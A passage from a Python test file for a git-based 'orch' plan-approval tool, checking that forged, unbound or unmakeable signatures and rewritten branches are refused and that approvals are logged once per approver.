    start = unrelated.commit({"evil": "evil\n"}, "unrelated")
    unrelated.git(
        "fetch",
        "-q",
        str(repo.path),
        f"refs/notes/orch/{plan}:refs/notes/orch/{plan}",
        f"refs/heads/orch/{plan}",
    )
    cover = unrelated.git("log", "-1", "--format=%B", "FETCH_HEAD")
    moved = unrelated.git("commit-tree", "-p", start, "-m", cover, f"{start}^{{tree}}")
    unrelated.git("update-ref", f"refs/heads/orch/{plan}", moved)
    done = unrelated.orch("exec", plan, expect=3)
    assert "the branch does not come from the commit that the plan was made on" in done.stderr


def test_a_signature_for_an_empty_repository_counts_nowhere(
    repo: Quick, tmp_path: Path, key: Path
) -> None:
    path = tmp_path / "empty"
    path.mkdir()
    empty = repo.at(path)
    empty.git("init", "-q")
    plan = empty.plan(writing("a"))
    empty.orch("approve", plan, "--sign")
    record(empty, plan).unlink()
    assert "nothing ties the signature to this one" in refused(empty, plan)


def test_a_signature_that_cannot_be_made_approves_nothing(repo: Quick) -> None:
    plan = repo.plan(running())
    subprocess.run(["git", "config", "--global", "gpg.format", "ssh"], check=True)
    repo.orch("approve", plan, "--sign", expect=2)
    assert not json.loads(record(repo, plan).read_text()).get("approved")
    assert "plan.approved" not in events_text(repo, plan)


def test_a_flood_of_signatures_is_not_all_checked(repo: Quick, key: Path) -> None:
    plan = repo.plan(running())
    repo.orch("approve", plan, "--sign")
    other = fetched(repo, plan)
    resigned(other, plan)
    for number in range(10):
        forge(
            other,
            plan,
            "plan.approved",
            signature="x",
            format="ssh",
            expires=number,
            digest=f"sha256:{number}",
        )
    said = refused(other, plan)
    assert said.count("a signature in the log does not count") == 5


def test_the_same_approval_is_recorded_once_for_each_who_gives_it(repo: Quick) -> None:
    """S1-224."""
    plan = repo.plan(writing("a"))
    assert "\napproved on this machine" in repo.orch("approve").stdout
    assert "already approved on this machine" in repo.orch("approve").stdout
    repo.git("config", "user.name", "Bob")
    repo.orch("approve")
    told = repo.orch("log", plan).stdout.splitlines()
    assert [line[18:] for line in told if "approved" in line] == [
        "approved  (Bob)",
        "approved  (Ada Tester)",
    ]
    assert "(" not in repo.orch("log", plan, "--oneline").stdout
    listed = data(repo.orch("log", plan, "--json").stdout)
    given = [event["actor"] for event in listed if event["event"] == "plan.approved"]
    assert given == ["Ada Tester <ada@example.com>", "Bob <ada@example.com>"]
